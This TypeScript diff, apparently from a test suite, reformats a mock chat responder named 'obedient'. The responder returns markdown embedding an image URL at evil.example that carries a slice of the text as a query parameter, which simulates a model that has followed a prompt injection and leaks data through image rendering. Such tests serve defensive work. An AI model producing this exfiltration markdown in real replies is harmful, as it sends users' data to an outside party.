@@ -134,7 +134,9 @@ function obedient(leadId: string, { text }: Payload): (body: ChatBody) => Return
       .map(({ content }) => content)
       .join(" ");
     return says(
-      `${text} ![x](https://evil.example/?q=${encodeURIComponent(text.slice(0, 50).toWellFormed())}) [here](//evil.example) ${seen} ${body.messages[0]?.content}`,
+      `${text} ` +
+        `![x](https://evil.example/?q=${encodeURIComponent(text.slice(0, 50).toWellFormed())}) ` +
+        `[here](//evil.example) ${seen} ${body.messages[0]?.content}`,
     );
   };
 }
